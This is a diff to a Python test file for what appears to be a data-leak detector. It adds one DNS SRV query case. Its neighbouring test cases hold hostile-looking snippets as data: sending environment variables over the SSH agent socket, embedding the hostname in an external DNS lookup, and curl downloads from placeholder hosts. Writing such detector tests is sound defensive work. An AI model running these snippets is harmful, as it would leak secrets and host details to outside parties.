@@ -105,6 +105,7 @@ def test_private_data_that_is_sent(trigger: str, source: str, expected: str) -> 
         ("import", "s = socket.socket(socket.AF_UNIX)\ns.connect(os.environ['SSH_AUTH_SOCK'])\ns.send(str(os.environ).encode())", "none"),
         ("import", "socket.gethostbyname(unknown)", "none"),
         ("call", "import dns.resolver\ndns.resolver.query(f'_demo._tcp.{socket.getfqdn()}', 'SRV')", "none"),
+        ("call", "import dns.resolver\nr = f'_a._tcp.{socket.getfqdn()}' if given else f'_b._tcp.{socket.getfqdn()}'\ndns.resolver.query(r, 'SRV')", "none"),
         ("call", "import dns.resolver\ndns.resolver.query(f'_demo._tcp.{socket.getfqdn()}.example.invalid', 'SRV')", "high"),
         ("install", "os.system('curl -O https://h.example.invalid/a.tar.gz')", "none"),
         ("call", "os.system('curl http://203.0.113.9/')", "none"),
